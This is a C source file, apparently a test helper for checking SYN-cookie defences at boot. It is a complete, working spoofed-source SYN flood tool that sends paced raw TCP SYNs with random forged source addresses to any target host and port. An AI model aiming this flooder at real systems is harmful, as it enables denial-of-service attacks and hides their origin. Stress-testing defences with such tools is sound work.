/*
 * synflood.c: a SYN flood from spoofed addresses, for the SYN cookie
 * boot test (test/boot_synflood.sh).  An ordinary Linux program on a
 * raw socket (root, or CAP_NET_RAW); it links nothing of ours.
 *
 *	synflood DST PORT COUNT RATE SUBNET/PREFIX [SEED]
 *
 * Sends COUNT TCP SYNs to DST:PORT at RATE a second, each from a
 * random address of SUBNET/PREFIX and a random port 1024..65535, with
 * a random ISN and the options Linux puts in a SYN (MSS 1460,
 * SACK-permitted, timestamps with a random TSval, window scale 7).
 * Never from the subnet's network or broadcast address, DST itself, or
 * an address of this host (getifaddrs): their answers would reach a
 * real stack, which would reset the handshakes.  The sources never
 * answer the SYN-ACKs: every handshake is left half open, as an
 * attacker's are.
 *
 * Pacing: every millisecond it sends what the rate allows by then
 * (a burst of RATE/1000), so RATE is kept over the run, not per packet.
 * SIGINT or SIGTERM stops it early.  Either way it prints one line,
 * "synflood: N SYNs in S s (R/s)", and exits 0; on a setup error or a
 * failed send it prints why and exits 1.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_LOCAL	64		/* local addresses remembered */

/* The IPv4 header (RFC 791) and TCP header (RFC 9293) with our options. */
struct syn_pkt {
	uint8_t vhl, tos;
	uint16_t len, id, frag;
	uint8_t ttl, proto;
	uint16_t csum;
	uint32_t src, dst;
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t off, flags;
	uint16_t win, tcsum, urg;
	uint8_t opt[20];
} __attribute__((packed));

static volatile sig_atomic_t stop;	/* SIGINT / SIGTERM came */
static uint32_t local[MAX_LOCAL];	/* this host's addresses, network order */
static int nlocal;
static uint64_t rng;

/* Print what failed (with errno's text if e) and exit 1. */
static void
die(const char *what, int e)
{
	if (e)
		fprintf(stderr, "synflood: %s: %s\n", what, strerror(e));
	else
		fprintf(stderr, "synflood: %s\n", what);
	exit(1);
}

/* The signal handler: stop after the current burst. */
static void
on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* The next number of a xorshift64* stream. */
static uint64_t
rnd(void)
{
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return rng * 2685821657736338717ULL;
}

/* Nanoseconds of the monotonic clock. */
static uint64_t
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

/* The ones' complement sum of n bytes at p, added to sum (RFC 1071). */
static uint32_t
sum16(const void *p, size_t n, uint32_t sum)
{
	const uint8_t *b = p;

	for (; n > 1; n -= 2, b += 2)
		sum += (uint32_t)(b[0] << 8 | b[1]);
	if (n)
		sum += (uint32_t)b[0] << 8;
	return sum;
}

/* Fold sum to 16 bits and complement it: a checksum, in host order. */
static uint16_t
fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Remember this host's IPv4 addresses. */
static void
read_local(void)
{
	struct ifaddrs *ifs, *i;

	if (getifaddrs(&ifs) != 0)
		die("getifaddrs", errno);
	for (i = ifs; i != NULL && nlocal < MAX_LOCAL; i = i->ifa_next)
		if (i->ifa_addr != NULL && i->ifa_addr->sa_family == AF_INET)
			local[nlocal++] = ((struct sockaddr_in *)i->ifa_addr)->sin_addr.s_addr;
	freeifaddrs(ifs);
}

/* A random source of net/prefix that none of the rules above forbid. */
static uint32_t
pick_src(uint32_t net, int prefix, uint32_t dst)
{
	uint32_t hosts = prefix >= 31 ? 0 : (1u << (32 - prefix)) - 1, a;

	for (;;) {
		a = htonl(ntohl(net) | (uint32_t)(1 + rnd() % (hosts - 1)));
		if (a == dst)
			continue;
		int mine = 0;
		for (int k = 0; k < nlocal; k++)
			mine |= local[k] == a;
		if (!mine)
			return a;
	}
}

/* Fill p with a SYN from src to dst:port, random port, ISN and TSval. */
static void
make_syn(struct syn_pkt *p, uint32_t src, uint32_t dst, uint16_t port)
{
	static const uint8_t opt[20] = { 2, 4, 1460 >> 8, 1460 & 255, 4, 2, 8, 10,
	    0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7 };
	uint32_t tsval = (uint32_t)rnd();
	uint32_t sum;

	memset(p, 0, sizeof *p);
	p->vhl = 0x45;
	p->len = htons(sizeof *p);
	p->ttl = 64;
	p->proto = IPPROTO_TCP;
	p->src = src;
	p->dst = dst;
	p->csum = htons(fold(sum16(p, 20, 0)));		/* the kernel fills it anyway */
	p->sport = htons((uint16_t)(1024 + rnd() % 64512));
	p->dport = htons(port);
	p->seq = (uint32_t)rnd();
	p->off = (sizeof *p - 20) / 4 << 4;
	p->flags = 0x02;				/* SYN */
	p->win = htons(64240);
	memcpy(p->opt, opt, sizeof opt);
	memcpy(p->opt + 8, &(uint32_t){ htonl(tsval) }, 4);
	/* Pseudo-header: addresses, protocol, TCP length; then the segment. */
	sum = sum16(&p->src, 8, IPPROTO_TCP + (uint32_t)(sizeof *p - 20));
	p->tcsum = htons(fold(sum16(&p->sport, sizeof *p - 20, sum)));
}

/* The arguments, the raw socket, then the SYNs at the rate until done or stopped. */
int
main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr net;
	struct syn_pkt pkt;
	long count, rate, sent = 0;
	uint64_t t0, due;
	int prefix, fd, on = 1;
	char *slash;
	double s;

	if (argc < 6 || argc > 7) {
		fprintf(stderr, "usage: synflood DST PORT COUNT RATE SUBNET/PREFIX [SEED]\n");
		return 1;
	}
	if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		die("DST is not an IPv4 address", 0);
	count = atol(argv[3]);
	rate = atol(argv[4]);
	if ((slash = strchr(argv[5], '/')) == NULL)
		die("SUBNET is not A.B.C.D/PREFIX", 0);
	*slash = '\0';
	prefix = atoi(slash + 1);
	if (inet_pton(AF_INET, argv[5], &net) != 1 || prefix < 8 || prefix > 30 ||
	    atoi(argv[2]) <= 0 || atoi(argv[2]) > 65535 || count <= 0 || rate <= 0)
		die("bad arguments", 0);
	net.s_addr &= htonl(~0u << (32 - prefix));
	rng = argc == 7 ? strtoull(argv[6], NULL, 0) | 1 : (now_ns() | 1);
	read_local();
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0)
		die("raw socket (root or CAP_NET_RAW needed)", errno);
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on) != 0)
		die("IP_HDRINCL", errno);
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	t0 = now_ns();
	while (sent < count && !stop) {
		/* What the rate allows by now, then a millisecond's sleep. */
		due = (now_ns() - t0) * (uint64_t)rate / 1000000000ULL + 1;
		for (; sent < count && (uint64_t)sent < due; sent++) {
			make_syn(&pkt, pick_src(net.s_addr, prefix, to.sin_addr.s_addr),
			    to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
			if (sendto(fd, &pkt, sizeof pkt, 0, (struct sockaddr *)&to,
			    sizeof to) != (ssize_t)sizeof pkt) {
				if (errno == ENOBUFS || errno == EAGAIN)
					break;		/* the queue is full: next round */
				die("sendto", errno);
			}
		}
		nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
	}
	s = (double)(now_ns() - t0) / 1e9;
	printf("synflood: %ld SYNs in %.1f s (%.0f/s)\n", sent, s, (double)sent / s);
	return 0;
}
